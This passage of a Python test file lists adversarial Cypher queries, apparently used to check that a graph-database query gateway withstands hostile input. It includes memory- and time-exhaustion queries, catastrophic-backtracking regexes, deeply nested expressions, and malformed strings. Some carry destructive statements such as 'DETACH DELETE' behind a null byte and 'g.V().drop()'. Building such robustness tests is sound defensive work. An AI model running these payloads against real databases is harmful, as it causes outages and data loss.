        "UNWIND range(1, 3000) AS i WITH collect(i) AS l RETURN [x IN l | l] AS c",
        "RETURN [x IN range(1, 100000000) | [y IN range(1, 10) | x * y]] AS c",
        "RETURN [x IN range(1, 10000) | [y IN range(1, 10000) | [z IN range(1, 10000) | z]]] AS c",
        "RETURN replace('aaaaaaaaaa', 'a', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa') AS c",
        "WITH 'aa' AS a " + "WITH replace(a, 'a', a) AS a " * 8 + "RETURN size(a) AS c",
        "RETURN replace('aaa', '', 'bbbbbbbbbbbbbbbbbbbbb') AS c",
        "RETURN lpad('a', 2000000000, 'b') AS c",
        "RETURN normalize('\ufdfa', NFKD) AS c",
        "MATCH (a), (b), (c), (d) RETURN collect([a, b, c, d]) AS c",
        "MATCH (a), (b), (c) RETURN a.id AS a, b.id AS b, c.id AS c ORDER BY c DESC, b, a",
        "MATCH p = (a)-[*1..12]-(b) RETURN collect(p) AS c",
        "MATCH p = (a)-[*1..12]-(b) RETURN p ORDER BY length(p) DESC",
        "MATCH (a) RETURN [(a)-[*1..9]-(b) | b] AS c",
    )
    text = "x" * 60_000
    yield Attempt("memory", LONG + "RETURN size(collect($s + x)) AS c", {"s": text})
    yield Attempt("memory", LONG + "RETURN $s + x AS c", {"s": text}, may_answer=True)
    yield Attempt("memory", LONG + "RETURN x", may_answer=True)


def _time() -> Iterator[Attempt]:
    yield from _all(
        "time",
        LONG + LONG.replace(" x ", " y ") + "RETURN count(*) AS c",
        LONG + "RETURN sum(x) AS c",
        LONG + "WITH x WHERE x < 0 RETURN x",
        LONG + "CALL (x) { UNWIND range(1, 1000000000) AS y RETURN count(y) AS c } RETURN sum(c)",
        "MATCH (a), (b), (c), (d) WHERE a.x + b.x + c.x + d.x = 0 RETURN count(*) AS c",
        "MATCH (a), (b), (c), (d), (e) WHERE a.id + b.id = c.id + d.id + e.id RETURN count(*) AS c",
        "MATCH p = (a)-[*]-(b) RETURN count(p) AS c",
        "MATCH p = (a)-[*1..30]-(b) RETURN count(p) AS c",
        "RETURN EXISTS { UNWIND range(1, 100000000000) AS i WITH i WHERE i < 0 RETURN i } AS c",
        "RETURN COUNT { UNWIND range(1, 100000000000) AS i RETURN i } AS c",
        "RETURN size([x IN range(1, 999) | COUNT { UNWIND range(1, 9999999) AS i RETURN i }]) AS c",
        # What a server cannot end once it has begun: within one row, or while it plans.
        "RETURN size([x IN range(1, 1000000) | [y IN range(1, 1000000) | x * y][0]]) AS c",
        "RETURN any(x IN range(1, 10000000000) WHERE x < 0) AS c",
        "RETURN any(x IN range(1, 9999) WHERE any(y IN range(1, 9999) WHERE y < 0)) AS c",
        "RETURN none(x IN range(1, 9999) WHERE single(y IN range(1, 9999) WHERE y = x)) AS c",
        "RETURN reduce(s = 0, x IN range(1, 100000000000) | s + x % 3) AS c",
        "RETURN 0 IN range(1, 1000000000000) AS c",
        "RETURN range(1, 1000000000000) = range(1, 1000000000000) AS c",
        "WITH range(1, 10000) AS l " + "WITH l + l AS l " * 30 + "RETURN -1 IN l AS c",
        "UNWIND range(1, 9999) AS i WITH collect(i) AS l "
        "RETURN size([x IN l WHERE any(y IN l WHERE y < 0)]) AS c",
        "UNWIND range(1, 9999) AS i WITH collect(i) AS l RETURN [x IN l WHERE x IN l + [x]] AS c",
        "RETURN 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' =~ '(a+)+$' AS c",
        "RETURN 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' =~ '(a|aa)+$' AS c",
        f"RETURN '{'a' * 4000}' =~ '{'.*a' * 12}b' AS c",
        "MATCH (n) WHERE n.name =~ '(.*)*x' RETURN n",
        "RETURN " + "(" * 2000 + "1" + ")" * 2000 + " AS c",
        "RETURN " + "[" * 2000 + "1" + "]" * 2000 + " AS c",
        "RETURN " + "1+" * 3900 + "1 AS c",
        "RETURN " + "NOT " * 1900 + "true AS c",
        "MATCH (n) WHERE " + " XOR ".join(f"n.v = {i}" for i in range(20)) + " RETURN n",
        "MATCH (n) WHERE " + " OR ".join(f"n.v = {i}" for i in range(700)) + " RETURN n",
        "MATCH (a) WHERE "
        + "EXISTS { MATCH (a)-->(b) WHERE " * 20
        + "true"
        + " }" * 20
        + " RETURN a",
        "MATCH (a) RETURN " + "COLLECT { MATCH (a)-->(b) RETURN " * 20 + "1" + " }" * 20 + " AS c",
    )
    yield from _all(
        "time",
        "MATCH p = allShortestPaths((a)-[*]-(b)) WHERE a.id <> b.id RETURN count(p) AS c",
        "MATCH p = shortestPath((a)-[*]-(b)) WHERE a.id <> b.id RETURN count(p) AS c",
        "MATCH (a)--(b)--(c)--(d)--(e)--(f)--(g) RETURN count(*) AS c",
        "MATCH p = (a)-[*]-(b) WHERE all(x IN nodes(p) WHERE x.id <> a.id) RETURN count(p) AS c",
        "MATCH p = ((a)-[r]-(b)){1,30} RETURN count(p) AS c",
        "MATCH p = ANY SHORTEST ((a)-[r]-(b))+ RETURN count(p) AS c",
        "MATCH " + "-->".join(f"(a{i})" for i in range(30)) + " RETURN count(*) AS c",
        "MATCH (a) WHERE EXISTS { (a)-[*]->({id: 'nobody'}) } RETURN count(a) AS c",
        " UNION ALL ".join([LONG + "RETURN max(x) AS c"] * 5),
        may_answer=True,
    )


def _broken() -> Iterator[Attempt]:
    yield from _all(
        "broken",
        "",
        " ",
        "\n",
        "\x00",
        "MATCH (n) RETURN n\x00",
        "MATCH (n)\x00 DETACH DELETE n",
        "MATCH (n) RETURN '\x1b[31m' AS x",
        "MATCH (n) RETURN '\ud800' AS x",
        "\x7f",
        "// only a comment",
        "/* only a comment */",
        "/* never closed",
        "MATCH (n) RETURN 'never closed",
        'MATCH (n) RETURN "never closed',
        "MATCH (n) RETURN `never closed",
        "MATCH (n RETURN n",
        "MATCH (n)) RETURN n",
        "MATCH (n] RETURN n",
        "RETURN {a: 1",
        "RETURN",
        "MATCH",
        "SELECT * FROM stations",
        "g.V().drop()",
        "{}",
        "()",
        "RETURN 1 AS x, 2 AS x",
        "RETURN nobody",
        "RETURN 1 +",
        "MATCH (n) RETURN n LIMIT -1",
        "MATCH (n) WHERE RETURN n",
        "RETURN 'x' AS x " + "x" * 9000,
        "RETURN '" + "a" * 1_000_000 + "' AS x",
        "RETURN 1 AS x " + "/* */" * 300_000,
        "\U0001f4a3",
        "RETURN 1 AS x \\",
        "RETURN 1 AS x # comment",
        "RETURN 1 AS x -- comment",
        "MATCH (n) RETURN n，n",
        "RETURN ‘x’ AS x",
    )


ATTEMPTS: tuple[Attempt, ...] = tuple(
    attempt
    for kind in (
        _writing, _hidden, _schema, _administration, _files, _procedures, _functions, _databases,
        _stacked, _prefixes, _batches, _parameters, _memory, _time, _broken,
    )
    for attempt in kind()
)  # fmt: skip
KINDS = tuple(dict.fromkeys(a.kind for a in ATTEMPTS))
